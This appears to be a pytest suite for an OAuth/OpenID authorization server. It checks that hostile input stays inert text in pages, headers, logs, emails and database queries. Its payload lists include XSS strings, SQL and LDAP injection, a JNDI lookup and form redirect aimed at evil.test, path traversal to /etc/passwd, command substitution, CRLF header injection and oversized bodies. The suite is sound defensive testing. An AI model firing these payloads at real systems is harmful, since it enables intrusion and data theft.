"""What outsiders write is shown, stored, logged and sent on as what it is: text."""

import io
import json
import logging
import time
from collections.abc import Iterator
from contextlib import contextmanager, redirect_stderr
from html.parser import HTMLParser

import pytest
import structlog
from werkzeug.test import TestResponse

from authserver.core import log
from authserver.delivery.mail import Renderer
from authserver.delivery.outbox import Content
from tests.attacks.people import Scene
from tests.isolation.rows import everything
from tests.support.browser import ISSUER, Browser, answered, hidden
from tests.support.world import World

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "{{7*7}}{% import os %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<!--<script>alert(1)//-->",
    "\u2028\u2029<script>",
    "＜script＞alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '<a href="javascript:alert(1)">x</a>',
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<form action=//evil.test>",
]
PARAMETERS = (
    "client_id", "redirect_uri", "response_type", "scope", "state", "nonce", "prompt", "max_age",
    "login_hint", "ui_locales", "response_mode", "organization", "code_challenge",
    "code_challenge_method", "resource", "request", "request_uri", "registration", "flow", "error",
    "error_description", "acr_values", "display", "id_token_hint", "unknown",
)  # fmt: skip
SCRIPTS = ("/static/js/app.js", "/static/js/form_post.js")


class Page(HTMLParser):
    """What a browser would make of a page: its elements, and nothing executed."""

    ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "content")

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.script_text = ""
        self._in_script = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, _tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.script_text += data


def assert_harmless(answer: TestResponse, client_uri: str) -> None:
    """Nothing in the page runs, leads elsewhere, or came from the attacker as markup."""
    if "html" not in answer.content_type:
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        return
    page = Page(answer.text)
    assert page.script_text.strip() == ""
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert tag not in {"iframe", "object", "embed", "base", "style", "textarea", "img"} or (
            tag == "img" and attributes["src"].startswith("/static/")
        )
        if tag == "script":
            assert attributes["src"] in SCRIPTS
        assert "http-equiv" not in attributes
        for name in Page.ADDRESSES:
            target = attributes.get(name, "").strip().lower()
            assert not target.startswith(("javascript:", "data:", "//")), (tag, attributes)
            assert "evil.test" not in target.removeprefix(client_uri).partition("?")[0]
        if tag == "form":
            assert attributes["action"].startswith("/") or attributes["action"] == client_uri
    policy = answer.headers["Content-Security-Policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert answer.headers["X-Frame-Options"] == "DENY"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "49" not in [text for text in answer.text.split() if text == "49"]


@pytest.fixture
def scene(world: World) -> Scene:
    return Scene(world)


@pytest.mark.attack("ATK-133")
@pytest.mark.parametrize("name", PARAMETERS)
def test_no_parameter_becomes_markup_on_any_page(scene: Scene, name: str) -> None:
    scene.code()
    for text in XSS:
        stranger = Browser(scene.world)
        for browser in (stranger, scene.browser):
            for mode in ("query", "form_post"):
                asked = browser.authorize(scene.client, **{"response_mode": mode, name: text})
                assert_harmless(asked, scene.client.redirect_uri)
                location = asked.headers.get("Location", "")
                assert location.startswith(("/login/", scene.client.redirect_uri)) or not location
                if location.startswith("/"):
                    assert_harmless(browser.follow(asked), scene.client.redirect_uri)
        for path in ("/", "/login/password", "/login/logout", "/login/signed-out", "/nothing"):
            page = stranger.get(path, query_string={name: text})
            assert_harmless(page, scene.client.redirect_uri)


@pytest.mark.attack("ATK-133")
@pytest.mark.parametrize("text", XSS)
def test_what_is_typed_comes_back_as_text(scene: Scene, text: str) -> None:
    page = scene.browser.follow(scene.browser.authorize(scene.client))
    typed = {"email": text, "password": text, "organization": text, "decision": text}
    assert_harmless(scene.browser.submit(page, **typed), scene.client.redirect_uri)
    for path in ("/login/password", "/login/consent", "/login/logout"):
        for data in ({**hidden(page), **typed, "flow": text}, {**typed, "csrf_token": text}):
            assert_harmless(scene.browser.post(path, data=data), scene.client.redirect_uri)
    assert_harmless(scene.browser.get(f"/{text}"), scene.client.redirect_uri)


@pytest.mark.attack("ATK-133")
@pytest.mark.parametrize("text", XSS)
def test_names_in_the_database_are_text_on_every_page(world: World, text: str) -> None:
    name = text[:100].replace("\u2028", "").replace("\u2029", "").replace("＜", "<")
    scene = Scene(world)
    person = world.user(scene.tenant, name=name.replace("＞", ">"))
    page = scene.browser.authorize(scene.client)
    page = scene.browser.sign_in(page, person)
    consent = scene.browser.follow(scene.browser.follow(page))
    assert_harmless(consent, scene.client.redirect_uri)
    for path in ("/", "/login/logout"):
        shown = scene.browser.get(path)
        assert_harmless(shown, scene.client.redirect_uri)
        assert person.email in shown.text


@pytest.mark.attack("ATK-133")
@pytest.mark.parametrize("text", XSS)
def test_a_state_survives_the_form_that_posts_it(scene: Scene, text: str) -> None:
    scene.code()
    page = scene.browser.authorize(scene.client, response_mode="form_post", state=text)
    assert_harmless(page, scene.client.redirect_uri)
    assert answered(page)["state"] == text
    assert "form-action https://rp.example" in page.headers["Content-Security-Policy"]


@pytest.mark.attack("ATK-133")
@pytest.mark.parametrize("text", XSS)
def test_an_error_description_is_plain_ascii_without_quotes(scene: Scene, text: str) -> None:
    answers = [
        scene.party().token(grant_type=text),
        scene.party().redeem(text),
        scene.party().machine(scope=text),
        scene.party().send("introspect", {"token": text}),
        scene.party().send("token", {text: text}),
    ]
    for answer in answers:
        said = answer.json or {}
        description = said.get("error_description", "")
        assert description.isascii()
        assert not set('"\\<>') & set(description)


@pytest.mark.attack("ATK-144")
@pytest.mark.parametrize("breaker", ["%0d%0aSet-Cookie:x=y", "%0a", "%0d", "%00", "%c2%85", "%1b"])
def test_no_line_break_reaches_a_header(scene: Scene, breaker: str) -> None:
    scene.code()
    base = (
        f"client_id={scene.client.id}&redirect_uri=https%3A%2F%2Frp.example%2Fcallback"
        f"&response_type=code&scope=openid&code_challenge={'a' * 43}&code_challenge_method=S256"
    )
    for name in ("state", "nonce", "login_hint", "ui_locales", "unknown", f"x{breaker}"):
        answer = scene.browser.get(f"/oauth/authorize?{base}&{name}=a{breaker}b")
        assert answer.status_code == 400
        assert "Location" not in answer.headers
        assert "x=y" not in str(answer.headers.getlist("Set-Cookie"))
    for endpoint in ("token", "introspect", "revoke", "userinfo"):
        answer = scene.world.app.test_client().post(
            f"/oauth/{endpoint}",
            base_url=ISSUER,
            data=f"token=a{breaker}b",
            content_type="application/x-www-form-urlencoded",
        )
        assert answer.status_code in {400, 401}


SQL = [
    "' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', "1; SELECT pg_sleep(10)",
    "' UNION SELECT password_hash FROM users --", "\\'; --", "%27%20OR%201=1", "admin'--", "') OR ('1'='1",
    "*)(uid=*))(|(uid=*", "${jndi:ldap://evil.test/x}", "%", "_", "../../etc/passwd", "$(id)", "`id`",
]  # fmt: skip


@pytest.mark.attack("ATK-137")
@pytest.mark.parametrize("text", SQL)
def test_a_value_is_never_part_of_a_statement(scene: Scene, text: str) -> None:
    scene.code()
    with scene.world.services.database.read() as view:
        people = everything(view.connection, scene.tenant.id)["users"]
    started = time.perf_counter()
    party, stranger = scene.party(), Browser(scene.world)
    answers = [
        party.redeem(text),
        party.refresh(text),
        party.introspect(text),
        party.revoke(text),
        party.machine(scope=text),
        party.machine(client_id=text),
        stranger.authorize(scene.client, client_id=text),
        stranger.authorize(scene.client, login_hint=text, organization=text),
        stranger.get("/login/password", query_string={"flow": text}),
        stranger.get(f"/t/{text}/oauth/jwks"),
    ]
    page = stranger.follow(stranger.authorize(scene.client, organization=text))
    answers.append(stranger.submit(page, email=text, password=text))
    email = scene.person.email
    answers.append(stranger.submit(page, email=f"{email}{text}", password="Wrong-Horse-7"))
    assert all(answer.status_code < 500 for answer in answers)
    assert all(answer.json.get("active") is not True for answer in answers if answer.is_json)
    assert stranger.http.get_cookie("__Host-as-session", domain="auth.example") is None
    assert time.perf_counter() - started < 8
    with scene.world.services.database.read() as view:
        assert everything(view.connection, scene.tenant.id)["users"] == people


@pytest.mark.attack("ATK-139")
def test_bodies_that_cost_time_are_refused_in_no_time(scene: Scene) -> None:
    boundary = "x" * 60
    parts = "".join(
        f"--{boundary}\r\nContent-Disposition: form-data; name=a{n}\r\n\r\n\r\n" for n in range(700)
    )
    bodies = [
        ("multipart/form-data; boundary=" + boundary, parts.encode()),
        ("multipart/form-data; boundary=" + boundary, b"\r\n" * 30_000),
        ("multipart/form-data; boundary=" + "-" * 3000, b"-" * 60_000),
        ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(6_000))),
        ("application/x-www-form-urlencoded", b"a" * 65_000),
        ("application/x-www-form-urlencoded", b"a" * 1_000_000),
        ("application/x-www-form-urlencoded", b"%" * 60_000),
        ("application/json", b"[" * 60_000),
        ("text/xml", b"<!DOCTYPE x [<!ENTITY a 'a'>]>"),
        ("", b"\0" * 60_000),
    ]
    for path in ("/oauth/token", "/oauth/introspect", "/oauth/authorize", "/login/password"):
        for content_type, body in bodies:
            started = time.perf_counter()
            answer = scene.world.app.test_client().post(
                path, base_url=ISSUER, data=body, content_type=content_type
            )
            assert answer.status_code in {400, 401, 403, 413, 415}, (path, content_type)
            assert time.perf_counter() - started < 1


@pytest.mark.attack("ATK-139")
def test_an_address_of_unreasonable_length_costs_nothing(scene: Scene) -> None:
    page = scene.browser.follow(scene.browser.authorize(scene.client))
    for domain in ("\u0660" * 20_000, "xn--" + "a" * 20_000, ".".join(["a"] * 20_000)):
        started = time.perf_counter()
        refused = scene.browser.submit(page, email=f"a@{domain}", password="x")
        assert refused.status_code >= 400
        assert time.perf_counter() - started < 1


@contextmanager
def caught_log() -> Iterator[io.BytesIO]:
    """Catch the log as it is written in production, everything from DEBUG on."""
    written = io.BytesIO()
    before, threshold = structlog.get_config(), log._threshold[0]  # noqa: SLF001  to put it back
    stderr = io.TextIOWrapper(written, write_through=True)
    with redirect_stderr(stderr):
        log.configure("DEBUG")
        structlog.configure(cache_logger_on_first_use=False)
        try:
            yield written
        finally:
            structlog.configure(**before)
            log._threshold[0] = threshold  # noqa: SLF001  the same
            logging.getLogger("authlib").setLevel(logging.NOTSET)
            stderr.detach()


@pytest.mark.attack("ATK-143")
def test_nothing_that_outsiders_write_makes_a_line_of_the_log(scene: Scene) -> None:
    forged = '\r\n{"event":"forged","level":"info"}\r\n'
    visible = '\u2028{"event":"forged"}\u2029'
    stranger = Browser(scene.world)
    page = stranger.follow(stranger.authorize(scene.client))
    with caught_log() as lines:
        for text in (forged, visible):
            stranger.submit(page, email=text, password=text)
            stranger.authorize(scene.client, client_id=text, redirect_uri=text)
            stranger.get(f"/{text}")
            scene.party().redeem(text)
            scene.party().token(grant_type=text)
            scene.party().send("token", {text: text})
        stranger.get("/", headers={"User-Agent": visible.encode().decode("latin-1")})
        found = [json.loads(line) for line in lines.getvalue().splitlines()]
    assert found
    assert "forged" not in {line["event"] for line in found}
    assert all({"event", "level", "timestamp"} <= set(line) for line in found)


@pytest.mark.attack("ATK-143")
def test_no_secret_and_nothing_personal_is_in_the_log(scene: Scene) -> None:
    scene.browser.http.environ_base.update(
        REMOTE_ADDR="203.0.113.77", HTTP_USER_AGENT="CanaryAgent/7"
    )
    with caught_log() as lines:
        canaries = leave_traces(scene)
        said = lines.getvalue().decode()
    assert said
    for canary in (*canaries, "203.0.113.77", "CanaryAgent"):
        assert canary not in said, canary


def leave_traces(scene: Scene) -> list[str]:
    """Use and misuse every secret there is, and return them all."""
    code, party = scene.code(), scene.party()
    tokens = party.redeem(code).json
    renewed = party.refresh(tokens["refresh_token"]).json
    for bad in (code, tokens["refresh_token"], tokens["access_token"], str(scene.client.secret)):
        party.redeem(bad)
        party.introspect(bad)
        party.userinfo(bad)
        scene.browser.get("/oauth/authorize", query_string={"flow": bad, "state": bad})
    scene.browser.submit(scene.browser.get("/login/logout"))
    page = scene.browser.follow(scene.browser.authorize(scene.client))
    scene.browser.submit(page, email=scene.person.email, password="Wrong-Canary-7")
    return [
        *(code, str(scene.client.secret), scene.person.password, scene.person.email),
        *(tokens[name] for name in ("access_token", "refresh_token", "id_token")),
        *(renewed[name] for name in ("access_token", "refresh_token")),
        *("Wrong-Canary-7", hidden(page)["csrf_token"], hidden(page)["flow"]),
    ]


@pytest.mark.attack("ATK-132")
@pytest.mark.parametrize("text", XSS)
def test_a_name_in_a_mail_is_text_and_no_link(scene: Scene, text: str) -> None:
    values = {
        "name": text,
        "until": "tomorrow",
        "time": "now",
        "address": text,
        "browser": f"https://evil.test/ {text}",
    }
    render = Renderer(ISSUER, clock=scene.world.clock)
    mail = render("msg_1", "account_locked", Content("a@example.com", values, None))
    assert mail.get_body(("html",)) is not None
    page = Page(mail.get_body(("html",)).get_content())
    assert page.script_text.strip() == ""
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")]
        assert tag not in {"script", "img", "svg", "iframe", "form", "base"}
        assert "http-equiv" not in attributes
        assert attributes.get("href", ISSUER).startswith(ISSUER)
    assert "\n" not in mail["Subject"]
